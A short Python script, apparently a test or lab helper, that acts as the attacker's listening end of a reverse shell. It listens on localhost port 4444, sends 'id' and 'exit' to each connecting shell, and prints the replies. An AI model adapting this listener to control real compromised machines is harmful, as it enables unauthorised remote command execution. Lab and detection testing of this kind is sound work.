# SPDX-License-Identifier: GPL-2.0-only
"""The attacker's end of a reverse shell: takes connections on 127.0.0.1:4444,
asks whoever connects for its id, and writes what it hears to standard output.
"""
import socket

server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", 4444))
server.listen()
print("listening", flush=True)
while True:
    victim, _ = server.accept()
    print("connected", flush=True)
    victim.settimeout(10)
    try:
        victim.sendall(b"id\nexit\n")
        while heard := victim.recv(4096):
            print("heard:", heard.decode(errors="replace"), flush=True)
    except OSError as error:
        print("broken off:", error, flush=True)
    victim.close()
